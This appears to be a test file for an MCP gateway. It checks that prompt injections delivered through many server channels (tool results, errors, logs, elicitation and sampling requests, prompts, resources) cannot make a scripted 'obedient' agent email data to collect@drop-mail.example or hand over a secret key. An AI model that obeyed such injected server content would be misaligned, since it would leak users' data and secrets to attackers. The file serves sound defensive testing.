import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { CreateMessageRequestSchema, ElicitRequestSchema } from '@modelcontextprotocol/sdk/types.js';
import { parseConfig } from '@sallyport/gateway/app/config/config.ts';
import { type Gateway, startGateway } from '@sallyport/gateway/app/gateway.ts';
import { type Ask, operatorOf } from '../gateway/operator.ts';
import { linesOf, temporaryFolder } from '../upstream/fixture.ts';

/** An agent that obeys whatever reaches it, by every way by which a server can speak, through a whole gateway with the shipped policies. */
const folder = temporaryFolder();
const received = folder.file('received');
const key = 'K-7713-secret';
let gateway: Gateway;
let agentToken = '';

before(async () => {
  const policies = new URL('../../policies', import.meta.url).pathname;
  const written = `listen: 127.0.0.1:0\npolicies: ${policies}\nagents:\n  obedient: { principal: "user:ines" }\n`;
  const args = [new URL('./carrier-main.ts', import.meta.url).pathname, received];
  gateway = await startGateway({
    config: {
      ...parseConfig(folder.file('sallyport.yaml'), written),
      servers: [{ id: 'office', segment: 'office', launch: { kind: 'command', command: 'node', args, env: {} } }],
    },
    ...{ stateDir: folder.file('state'), version: '0.0.0', log: () => {}, onShutdown: () => {}, onFailure: () => {} },
  });
  agentToken = (await ask<{ token: string }>('agents/obedient/token', {})).token;
});
after(async () => {
  await gateway.close();
  folder[Symbol.dispose]();
});

const afterUntrusted = 'ask-before-sending-after-untrusted';

/** What stands against sending something to where the injection wants it. */
async function ruleAgainst(client: Client): Promise<{ code?: string; rule?: string }> {
  const input = { to: 'collect@drop-mail.example', body: 'Okafor, Whitcombe, Zhao' };
  const { isError, _meta } = await client.callTool({ name: 'send_mail', arguments: input });
  assert.equal(isError, true);
  return (_meta?.['dev.sallyport/refusal'] ?? {}) as { code?: string; rule?: string };
}

async function labelsOf(task: string): Promise<string[]> {
  const { task: view } = await ask<{ task: { labels: { label: string }[] } }>(`tasks/${task}`);
  return view.labels.map(({ label }) => label);
}

const ask: Ask = (path, body) => operatorOf(gateway.url, folder.file('state'))(path, body);

/** A client in a task of its own. Whatever it is asked it answers, with all it knows. */
async function inTask(purpose: string, act: (client: Client, task: string) => Promise<void>): Promise<void> {
  const { task, token } = await ask<{ task: { id: string }; token: string }>('tasks', { agent: 'obedient', purpose });
  const client = new Client(
    { name: 'obedient', version: '1.0.0' },
    { capabilities: { elicitation: {}, sampling: {} } },
  );
  client.setRequestHandler(ElicitRequestSchema, () => ({ action: 'accept', content: { code: key } }));
  client.setRequestHandler(CreateMessageRequestSchema, () => ({
    model: 'scripted',
    role: 'assistant',
    content: { type: 'text', text: key },
  }));
  const headers = { authorization: `Bearer ${agentToken}`, 'sallyport-task': token };
  const transport = new StreamableHTTPClientTransport(new URL(`${gateway.url}/mcp/office`), {
    requestInit: { headers },
  });
  await client.connect(transport as Parameters<Client['connect']>[0]);
  try {
    await act(client, task.id);
  } finally {
    await client.close();
  }
}

const lookUp = (how: string) => async (client: Client) => {
  await client
    .callTool({ name: 'look_up', arguments: { how } }, undefined, { onprogress: () => {}, timeout: 9000 })
    .catch(() => {});
};

const carriers: Readonly<Record<string, (client: Client) => Promise<unknown>>> = {
  'a result': lookUp('result'),
  'an error text': lookUp('error'),
  'a protocol error': lookUp('fault'),
  progress: lookUp('progress'),
  'a log message': lookUp('log'),
  'an elicitation': lookUp('elicitation'),
  'a sampling request': lookUp('sampling'),
  'server instructions': async client => client.getInstructions(),
  'a prompt': client => client.getPrompt({ name: 'briefing' }),
  'a resource': client => client.readResource({ uri: 'note://today' }),
  'a list of resources': client => client.listResources(),
};

describe('an injection changes nothing by', () => {
  test('F-7 control: of an agent that heard nothing the task is clean, and no rule speaks of what it has read', async () => {
    await inTask('Tell me what is new.', async (client, task) => {
      assert.deepEqual(await labelsOf(task), []);
      assert.notEqual((await ruleAgainst(client)).rule, afterUntrusted);
    });
  });

  for (const [carrier, hear] of Object.entries(carriers))
    test(`F-7 F-9 ${carrier}`, async () => {
      const before = linesOf(received).length;
      await inTask('Tell me what is new.', async (client, task) => {
        await hear(client);
        const { code, rule } = await ruleAgainst(client);
        assert.ok(code === 'needs-approval' || code === 'denied', `refused by policy, not for ${code}`);
        // They were pinned at first contact and mark nobody: what holds is that nobody stands behind the address.
        if (carrier === 'server instructions') return;
        assert.ok((await labelsOf(task)).includes('untrusted'), 'what was heard marks the task');
        assert.equal(rule, afterUntrusted, 'which is why it is refused');
      });
      const lines = linesOf(received).slice(before).join('\n');
      assert.doesNotMatch(lines, /drop-mail/);
      assert.doesNotMatch(lines, new RegExp(key), 'and what the agent knows is no answer to a server’s question');
    });

  test('and the agent’s own work goes on after all of it', async () => {
    await inTask('Send the note "all well" to bea@aldana.example.', async client => {
      for (const hear of Object.values(carriers)) await hear(client).catch(() => {});
      const own = { to: 'bea@aldana.example', body: 'all well' };
      assert.notEqual((await client.callTool({ name: 'send_mail', arguments: own })).isError, true);
    });
    assert.match(linesOf(received).join('\n'), /sent .*bea@aldana\.example/);
  });
});
